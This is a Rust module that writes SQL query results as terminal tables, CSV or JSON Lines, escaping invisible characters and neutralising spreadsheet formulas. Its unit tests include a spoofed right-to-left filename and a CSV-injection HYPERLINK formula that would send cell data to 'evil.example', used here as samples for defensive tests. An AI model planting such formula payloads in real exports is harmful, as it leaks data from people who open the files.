//! A `sql` answer as text: an aligned table for a terminal, RFC 4180 CSV with a header line
//! (quoted as `export` quotes, a text cell a spreadsheet would run as a formula prefixed with
//! `'` as `export` does, [`csv_text`]; numbers, times and the other types as they are), or
//! JSON Lines (one object per row, every column, NULL as `null`, exact values). Values print
//! as the engine displays them: times as RFC 3339 in UTC, binary columns (the raw address and
//! MAC forms of `flows_raw`) as hex.

use std::io::Write;

use datafusion::arrow::array::RecordBatch;
use datafusion::arrow::datatypes::{DataType, SchemaRef};
use datafusion::arrow::error::ArrowError;
use datafusion::arrow::json::writer::{LineDelimited, WriterBuilder};
use datafusion::arrow::util::display::{ArrayFormatter, FormatOptions};
use datafusion::arrow::util::pretty::{
    pretty_format_batches_with_options, pretty_format_batches_with_schema,
};

use super::SqlError;
use crate::store::export::{csv_field, csv_text, Format};

/// Rows of a table aligned together: a longer answer is printed as several tables of this
/// many rows, so memory stays bounded however many rows come (CSV and JSON Lines stream).
pub const TABLE_ROWS: usize = 10_000;

/// Writes an answer batch by batch; a table waits for [`TABLE_ROWS`] rows, or the last
/// batch, to align its columns.
pub struct Writer<'a> {
    out: &'a mut dyn Write,
    format: Format,
    schema: SchemaRef,
    /// The table's batches not printed yet, and their rows.
    held: Vec<RecordBatch>,
    held_rows: usize,
    /// Whether a table was printed.
    printed: bool,
    rows: u64,
    header_written: bool,
}

fn arrow_err(e: ArrowError) -> SqlError {
    match e {
        ArrowError::IoError(_, cause) => SqlError::Output(cause),
        e => SqlError::Output(std::io::Error::other(e)),
    }
}

impl<'a> Writer<'a> {
    /// A writer of an answer with `schema` to `out`.
    pub fn new(out: &'a mut dyn Write, format: Format, schema: SchemaRef) -> Self {
        Self {
            out,
            format,
            schema,
            held: Vec::new(),
            held_rows: 0,
            printed: false,
            rows: 0,
            header_written: false,
        }
    }

    /// Writes (or, for a table, holds) one batch of rows.
    pub fn write(&mut self, batch: &RecordBatch) -> Result<(), SqlError> {
        self.rows += batch.num_rows() as u64;
        match self.format {
            Format::Table => {
                if batch.num_rows() > 0 {
                    self.held.push(printable_text(batch)?);
                    self.held_rows += batch.num_rows();
                }
                if self.held_rows >= TABLE_ROWS {
                    self.table()?;
                }
                Ok(())
            }
            Format::Csv => self.csv(batch),
            Format::Jsonl => {
                let mut w = WriterBuilder::new()
                    .with_explicit_nulls(true)
                    .build::<_, LineDelimited>(&mut *self.out);
                w.write(batch).map_err(arrow_err)?;
                w.finish().map_err(arrow_err)
            }
        }
    }

    /// Prints the held rows as one aligned table (none when nothing is held).
    fn table(&mut self) -> Result<(), SqlError> {
        if self.held.is_empty() {
            return Ok(());
        }
        let options = FormatOptions::new().with_null("NULL");
        let t = pretty_format_batches_with_options(&self.held, &options).map_err(arrow_err)?;
        writeln!(self.out, "{t}").map_err(SqlError::Output)?;
        self.held.clear();
        (self.held_rows, self.printed) = (0, true);
        Ok(())
    }

    /// Writes what is left (a table, a CSV header of an empty answer) and flushes; the rows
    /// of the answer.
    pub fn finish(mut self) -> Result<u64, SqlError> {
        match self.format {
            Format::Table if self.held.is_empty() && !self.printed => {
                let t = pretty_format_batches_with_schema(self.schema.clone(), &[])
                    .map_err(arrow_err)?;
                writeln!(self.out, "{t}").map_err(SqlError::Output)?;
            }
            Format::Table => self.table()?,
            Format::Csv => self.csv_header()?,
            Format::Jsonl => {}
        }
        self.out.flush().map_err(SqlError::Output)?;
        Ok(self.rows)
    }

    fn csv_header(&mut self) -> Result<(), SqlError> {
        if std::mem::replace(&mut self.header_written, true) {
            return Ok(());
        }
        let mut line = Vec::new();
        for (i, f) in self.schema.fields().iter().enumerate() {
            if i > 0 {
                line.push(b',');
            }
            csv_field(&mut line, f.name());
        }
        line.push(b'\n');
        self.out.write_all(&line).map_err(SqlError::Output)
    }

    fn csv(&mut self, batch: &RecordBatch) -> Result<(), SqlError> {
        self.csv_header()?;
        let options = FormatOptions::new();
        let columns = batch
            .columns()
            .iter()
            .map(|c| ArrayFormatter::try_new(c.as_ref(), &options))
            .collect::<Result<Vec<_>, _>>()
            .map_err(arrow_err)?;
        let text: Vec<bool> = (batch.schema().fields().iter())
            .map(|f| is_text(f.data_type()))
            .collect();
        let mut line = Vec::new();
        let mut cell = String::new();
        for row in 0..batch.num_rows() {
            line.clear();
            for (i, c) in columns.iter().enumerate() {
                if i > 0 {
                    line.push(b',');
                }
                cell.clear();
                use std::fmt::Write as _;
                write!(cell, "{}", c.value(row))
                    .map_err(|e| SqlError::Output(std::io::Error::other(e)))?;
                if text[i] {
                    csv_text(&mut line, &cell);
                } else {
                    csv_field(&mut line, &cell);
                }
            }
            line.push(b'\n');
            self.out.write_all(&line).map_err(SqlError::Output)?;
        }
        Ok(())
    }
}

/// `batch` with its text cells as a terminal may show them: invisible characters escaped
/// ([`crate::invisible::printable`]), so an account or a host name holding U+202E or a line
/// break neither reorders nor breaks a row of the table. Text columns come out as `Utf8`.
fn printable_text(batch: &RecordBatch) -> Result<RecordBatch, SqlError> {
    use datafusion::arrow::array::{ArrayRef, AsArray, StringArray};
    use datafusion::arrow::datatypes::Schema;
    use std::sync::Arc;
    let schema = batch.schema();
    let shown_as_text = |t: &DataType| is_text(t) || t.is_nested();
    if !schema.fields().iter().any(|f| shown_as_text(f.data_type())) {
        return Ok(batch.clone());
    }
    let mut fields = Vec::with_capacity(batch.num_columns());
    let mut columns: Vec<ArrayRef> = Vec::with_capacity(batch.num_columns());
    for (f, c) in schema.fields().iter().zip(batch.columns()) {
        let shown: StringArray = if is_text(f.data_type()) {
            let text = datafusion::arrow::compute::cast(c, &DataType::Utf8).map_err(arrow_err)?;
            (text.as_string::<i32>().iter())
                .map(|v| v.map(crate::invisible::printable))
                .collect()
        } else if f.data_type().is_nested() {
            // A struct, list or map of texts (`named_struct('x', domain)`): shown as the
            // table would show it, then escaped (its texts reached the terminal raw).
            use datafusion::arrow::util::display::{ArrayFormatter, FormatOptions};
            let cells = ArrayFormatter::try_new(c.as_ref(), &FormatOptions::default())
                .map_err(arrow_err)?;
            (0..c.len())
                .map(|i| {
                    (!c.is_null(i)).then(|| {
                        crate::invisible::printable(&cells.value(i).to_string()).into_owned()
                    })
                })
                .collect()
        } else {
            fields.push(f.clone());
            columns.push(c.clone());
            continue;
        };
        fields.push(Arc::new(f.as_ref().clone().with_data_type(DataType::Utf8)));
        columns.push(Arc::new(shown));
    }
    RecordBatch::try_new(Arc::new(Schema::new(fields)), columns).map_err(arrow_err)
}

/// Whether a column holds text (a string, or a dictionary of strings): the cells CSV guards
/// against formulas. A number (`-5`), a time or a binary column's hex is written as it is.
fn is_text(t: &DataType) -> bool {
    match t {
        DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View => true,
        DataType::Dictionary(_, values) => is_text(values),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use datafusion::arrow::array::{DictionaryArray, Int64Array, StringArray};
    use datafusion::arrow::datatypes::Int32Type;
    use datafusion::arrow::datatypes::{DataType, Field, Schema};
    use std::sync::Arc;

    /// A text cell's invisible characters are escaped in a table (an account holding U+202E
    /// reordered the row as printed, a line break split it), also in a dictionary column.
    #[test]
    fn a_tables_text_cells_show_invisible_characters_escaped() {
        let accounts = StringArray::from(vec![Some("bob\u{202e}gpj.exe"), None, Some("a\nb")]);
        let dict: DictionaryArray<Int32Type> =
            vec!["x\u{200b}y", "plain", "plain"].into_iter().collect();
        let schema = Arc::new(Schema::new(vec![
            Field::new("user", DataType::Utf8, true),
            Field::new(
                "host",
                datafusion::arrow::array::Array::data_type(&dict).clone(),
                false,
            ),
            Field::new("n", DataType::Int64, false),
        ]));
        let batch = RecordBatch::try_new(
            schema.clone(),
            vec![
                Arc::new(accounts),
                Arc::new(dict),
                Arc::new(Int64Array::from(vec![1, 2, 3])),
            ],
        )
        .expect("batch");
        let mut out = Vec::new();
        let mut w = Writer::new(&mut out, Format::Table, schema);
        w.write(&batch).expect("write");
        assert_eq!(w.finish().expect("finish"), 3);
        let text = String::from_utf8(out).expect("utf-8");
        assert!(
            !text.contains('\u{202e}') && !text.contains('\u{200b}'),
            "{text}"
        );
        assert!(
            text.contains("bob\\u{202e}gpj.exe") && text.contains("x\\u{200b}y"),
            "{text}"
        );
        assert!(text.contains("a\\nb") && text.contains("NULL"), "{text}");
        assert_eq!(text.lines().count(), 3 + 4, "one line per row: {text}");
    }

    /// A long table answer is printed in aligned tables of [`TABLE_ROWS`] rows as it comes,
    /// not held whole until the end; every row is there, in order.
    #[test]
    fn a_long_table_is_printed_in_bounded_pieces_with_every_row() {
        let schema = Arc::new(Schema::new(vec![Field::new("n", DataType::Int64, false)]));
        let total = TABLE_ROWS * 2 + 500;
        let mut out = Vec::new();
        let mut w = Writer::new(&mut out, Format::Table, schema.clone());
        let mut most_held = 0;
        for start in (0..total).step_by(1000) {
            let n: Vec<i64> = (start..(start + 1000).min(total))
                .map(|i| i as i64)
                .collect();
            let batch = RecordBatch::try_new(schema.clone(), vec![Arc::new(Int64Array::from(n))])
                .expect("batch");
            w.write(&batch).expect("write");
            most_held = most_held.max(w.held_rows);
        }
        assert!(most_held < TABLE_ROWS, "held {most_held} rows");
        assert_eq!(w.finish().expect("finish"), total as u64);
        let text = String::from_utf8(out).expect("text");
        let rows: Vec<i64> = text
            .lines()
            .filter_map(|l| l.trim_matches(|c| c == '|' || c == ' ').parse().ok())
            .collect();
        assert_eq!(rows, (0..total as i64).collect::<Vec<_>>());
        let headers = (text.lines())
            .filter(|l| l.trim_matches(|c| c == '|' || c == ' ') == "n")
            .count();
        assert_eq!(headers, 3, "three tables: {}", &text[..200]);
    }

    /// A text cell a spreadsheet would run (`=`, `+`, `-`, `@`, TAB, CR first) is written
    /// with a `'` first, as `export` writes it; a negative number stays a number, and so does
    /// a text that is a plain number (`-5`), but not `-inf`. JSON Lines keeps the exact text.
    #[test]
    fn csv_text_cells_that_look_like_formulas_are_prefixed_numbers_are_not() {
        let schema = Arc::new(Schema::new(vec![
            Field::new("n", DataType::Int64, false),
            Field::new("s", DataType::Utf8, false),
            Field::new(
                "d",
                DataType::Dictionary(Box::new(DataType::Int32), Box::new(DataType::Utf8)),
                false,
            ),
        ]));
        let s = StringArray::from(vec![
            "-5",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
            "-inf",
        ]);
        let d: DictionaryArray<Int32Type> = vec!["@SUM(A1)", "\tx", "plain"].into_iter().collect();
        let batch = RecordBatch::try_new(
            schema.clone(),
            vec![
                Arc::new(Int64Array::from(vec![-5, 7, -1])),
                Arc::new(s),
                Arc::new(d),
            ],
        )
        .expect("batch");
        let answer = |format| {
            let mut out = Vec::new();
            let mut w = Writer::new(&mut out, format, schema.clone());
            w.write(&batch).expect("write");
            w.finish().expect("finish");
            String::from_utf8(out).expect("utf-8")
        };
        assert_eq!(
            answer(Format::Csv),
            "n,s,d\n\
             -5,-5,'@SUM(A1)\n\
             7,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\",'\tx\n\
             -1,'-inf,plain\n"
        );
        let json = answer(Format::Jsonl);
        assert!(
            json.starts_with("{\"n\":-5,\"s\":\"-5\",\"d\":\"@SUM(A1)\"}\n"),
            "{json}"
        );
    }
}
